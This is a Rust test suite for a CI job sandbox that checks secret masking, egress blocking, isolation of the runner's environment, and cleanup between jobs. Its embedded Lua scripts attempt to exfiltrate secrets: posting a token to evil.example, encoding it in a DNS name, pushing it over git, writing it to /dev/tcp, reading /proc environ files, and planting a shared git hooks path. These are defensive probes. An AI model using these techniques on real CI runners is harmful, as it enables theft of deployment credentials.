//! SEC-01, SEC-03, SEC-04 (secrets) and ISO-01 (state across jobs on one runner slot).

use crate::helpers::*;
use rivet_sandbox::events::Source;
use std::collections::BTreeMap;
use std::io::ErrorKind;
use std::net::TcpListener;

const TOKEN: &str = "tok-3f9a1c7e5b2d4680-deploy";

fn secrets() -> BTreeMap<String, String> {
    BTreeMap::from([("DEPLOY_TOKEN".to_owned(), TOKEN.to_owned())])
}

/// Asserts no log line, error or worker stderr of `job` contains the token.
#[track_caller]
fn assert_not_leaked(job: &Job, what: &str) {
    for (source, line) in job.logs() {
        assert!(
            !line.contains(TOKEN),
            "{what}: the secret reached the log ({source:?}): {line}"
        );
    }
    assert!(
        !job.error().contains(TOKEN),
        "{what}: the secret is in the error"
    );
    assert!(
        !job.report.stderr.contains(TOKEN),
        "{what}: the secret reached the worker's stderr"
    );
}

#[test]
fn sec_01_secrets_are_masked_in_every_sink() {
    let policy = policy(&[]);
    let canary = Canary::new("sec01");
    let cases: Vec<(&str, &str, &[&str])> = vec![
        (
            "log, print, warn",
            r#"local tok = env.get("DEPLOY_TOKEN")
log.info(tok); log.warn("w " .. tok); log.error(tok .. " e"); print(tok); print("p", tok)
warn("@on"); warn(tok)
log.info(string.upper(tok):lower())"#,
            &["***", "w ***", "*** e", "p\t***"],
        ),
        (
            "child process output",
            r#"local tok = env.get("DEPLOY_TOKEN")
process.run{ command = "echo", args = {"out:" .. tok} }
process.run{ command = "sh", args = {"-c", "echo err:$0 1>&2", tok} }"#,
            &["out:***", "err:***"],
        ),
    ];
    let policy_sh = crate::helpers::policy(&["sh"]);
    for (label, script, wants) in cases {
        let ws = workspace("sec01");
        let job = run_job_with_secrets(&policy_sh, &pipeline(script), ws.path(), secrets());
        assert_succeeded(&job, label);
        assert_not_leaked(&job, label);
        let lines: Vec<&str> = job.logs().into_iter().map(|(_, l)| l).collect();
        for want in wants {
            assert!(
                lines.contains(want),
                "{label}: missing masked line {want:?}\n{}",
                job.describe()
            );
        }
    }
    // An error carrying the secret fails the job with the secret masked.
    let ws = workspace("sec01");
    let job = run_job_with_secrets(
        &policy,
        &pipeline("error(\"token=\" .. env.get(\"DEPLOY_TOKEN\"))"),
        ws.path(),
        secrets(),
    );
    assert_failed_with(&job, "token=***", "error(token)");
    assert_not_leaked(&job, "error(token)");
    canary.assert_intact("SEC-01");
    assert_follow_up(&policy);
}

#[test]
fn sec_03_secret_bearing_jobs_cannot_send_the_secret_out() {
    // A pipeline with secrets runs under an egress allow-list (`http.hosts`); the job's network
    // namespace has no route out for child processes at all.
    let mut policy = policy(&["sh"]);
    policy.http.hosts = vec!["hooks.slack.com".into()];
    let canary = Canary::new("sec03");
    let listener = TcpListener::bind("127.0.0.1:0").expect("binding a local listener");
    listener
        .set_nonblocking(true)
        .expect("a non-blocking listener");
    let port = listener.local_addr().expect("its address").port();
    let cases: Vec<(&str, String, &str)> = vec![
        (
            "http.post to a host off the allow-list",
            "http.post(\"https://evil.example/c\", env.get(\"DEPLOY_TOKEN\"))".into(),
            "policy violation [http.host]",
        ),
        (
            "the secret as a DNS label",
            "local tok = env.get(\"DEPLOY_TOKEN\"):gsub(\"[^%w]\", \"\")\nhttp.get(\"https://\" .. tok .. \".evil.example/\")".into(),
            "policy violation [http.host]",
        ),
        (
            "http to a local listener",
            format!("http.post(\"http://127.0.0.1:{port}/c\", env.get(\"DEPLOY_TOKEN\"))"),
            "policy violation [http.host]",
        ),
        (
            "git push of a committed secret",
            format!(
                "filesystem.write(\"leak.txt\", env.get(\"DEPLOY_TOKEN\"))\nprocess.run{{ command = \"git\", args = {{\"init\", \"-q\"}} }}\nprocess.run{{ command = \"git\", args = {{\"add\", \"leak.txt\"}} }}\nprocess.run{{ command = \"git\", args = {{\"-c\", \"user.name=t\", \"-c\", \"user.email=t@e\", \"commit\", \"-q\", \"-m\", \"x\"}} }}\nprocess.run{{ command = \"git\", args = {{\"push\", \"http://127.0.0.1:{port}/x.git\", \"HEAD:main\"}} }}"
            ),
            "process `git` exited with code 128",
        ),
        (
            "a raw socket from a child process",
            format!("process.run{{ command = \"sh\", args = {{\"-c\", \"echo $0 > /dev/tcp/127.0.0.1/{port}\", env.get(\"DEPLOY_TOKEN\")}} }}"),
            "process `sh` exited with code",
        ),
    ];
    for (label, script, needle) in cases {
        let ws = workspace("sec03");
        let source = pipeline_requiring(&["http", "process", "filesystem"], &script);
        let job = run_job_with_secrets(&policy, &source, ws.path(), secrets());
        assert_failed_with(&job, needle, label);
        assert_not_leaked(&job, label);
        match listener.accept() {
            Ok((_, from)) => panic!("{label}: the job reached the host's listener from {from}"),
            Err(e) if e.kind() == ErrorKind::WouldBlock => {}
            Err(e) => panic!("{label}: accept failed: {e}"),
        }
    }
    canary.assert_intact("SEC-03");
    assert_follow_up(&policy);
}

#[test]
fn sec_04_the_runner_environment_is_out_of_reach() {
    let policy = policy(&["sh", "env"]);
    let canary = Canary::new("sec04");
    // The runner process (this test) holds service credentials in its environment.
    let marker = format!("sec04-runner-secret-{}", std::process::id());
    for name in ["DATABASE_URL", "RABBITMQ_URL", "REDIS_URL"] {
        std::env::set_var(name, format!("postgres://u:{marker}@db/x"));
    }
    let ws = workspace("sec04");
    let job = run_job(
        &policy,
        &pipeline(
            r#"for _, name in ipairs({"DATABASE_URL", "RABBITMQ_URL", "REDIS_URL", "HOME", "PATH"}) do
  log.info(name .. "=" .. tostring(env.get(name)))
end
process.run{ command = "env" }
local r = process.run{ command = "sh", check = false, args = {"-c", "cat /proc/[0-9]*/environ | tr '\\0' '\\n'; ls /proc | grep -c '^[0-9]'"} }
log.info("PROCS " .. r.stdout:match("(%d+)%s*$"))"#,
        ),
        ws.path(),
    );
    assert_succeeded(&job, "reading the runner's environment");
    let lines: Vec<&str> = job.logs().into_iter().map(|(_, l)| l).collect();
    for name in ["DATABASE_URL", "RABBITMQ_URL", "REDIS_URL", "HOME", "PATH"] {
        assert!(
            lines.contains(&format!("{name}=nil").as_str()),
            "env.get({name}) must be nil\n{}",
            job.describe()
        );
    }
    for line in &lines {
        assert!(
            !line.contains(&marker),
            "the runner's environment leaked: {line}"
        );
    }
    // Only the job's own processes are visible (its pid namespace): the worker, sh, cat, ls.
    let procs: u32 = job
        .lines(Source::Script)
        .iter()
        .find_map(|l| l.strip_prefix("PROCS "))
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no process count\n{}", job.describe()));
    assert!(procs <= 8, "the job sees {procs} processes");
    canary.assert_intact("SEC-04");
    assert_follow_up(&policy);
}

#[test]
fn iso_01_a_job_leaves_nothing_for_the_next_one() {
    let policy = policy(&["sh"]);
    let options = shared_options(&policy);
    let canary = Canary::new("iso01");
    let requires = ["plugin.git", "process", "filesystem"];
    let ws_a = workspace("iso01-a");
    let job_a = run_job_with_options(
        &policy,
        &pipeline_requiring(
            &requires,
            r#"GLOBAL_MARK = "A"
local tries = {
  function() string.mark = "A" end,
  function() require("plugin.git").__cache = { evil = true } end,
  function() git.clone = function() end end,
  function() getmetatable("").__index.len = function() return 0 end end,
  function() rawset(string, "len", function() return 0 end) end,
}
for i, f in ipairs(tries) do
  local ok, e = pcall(f)
  log.info("TRY " .. i .. " " .. tostring(ok) .. " " .. tostring(e))
end
process.run{ command = "git", args = {"config", "--global", "core.hooksPath", "/var/lib/rivet/shared/hooks"} }
process.run{ command = "sh", args = {"-c", "echo A > /tmp/iso-mark; echo A > $HOME/iso-mark"} }
filesystem.write("a.txt", "A")
error("job A ends", 0)"#,
        ),
        ws_a.path(),
        &options,
    );
    assert_failed_with(&job_a, "job A ends", "job A");
    let tries = job_a.lines(Source::Script);
    assert!(
        tries
            .iter()
            .filter(|l| l.starts_with("TRY ") && l.contains("policy violation [lua.readonly]"))
            .count()
            >= 4,
        "job A's tampering should be refused with [lua.readonly]\n{}",
        job_a.describe()
    );

    let ws_b = workspace("iso01-b");
    let job_b = run_job_with_options(
        &policy,
        &pipeline_requiring(
            &requires,
            r#"assert(GLOBAL_MARK == nil, "global from job A")
assert(string.mark == nil, "string field from job A")
assert(require("plugin.git").__cache == nil, "plugin field from job A")
assert(("abc"):len() == 3 and string.len("abc") == 3, "string.len from job A")
assert(type(git.clone) == "function")
local r = process.run{ command = "git", check = false, args = {"config", "--global", "--get", "core.hooksPath"} }
assert(r.code == 1 and r.stdout == "", "HOME/.gitconfig from job A: " .. r.stdout)
r = process.run{ command = "sh", check = false, args = {"-c", "cat /tmp/iso-mark $HOME/iso-mark"} }
assert(r.code ~= 0 and r.stdout == "", "temporary files from job A: " .. r.stdout)
assert(not filesystem.exists("a.txt"), "workspace file from job A")
log.info("B pristine")"#,
        ),
        ws_b.path(),
        &options,
    );
    assert_succeeded(&job_b, "job B on the same slot");
    assert!(job_b.report.duration < FOLLOW_UP_LIMIT);
    assert!(job_b.lines(Source::Script).contains(&"B pristine"));
    assert_absent(&[std::path::Path::new("/tmp/iso-mark")], "ISO-01");
    canary.assert_intact("ISO-01");
    assert_follow_up(&policy);
}
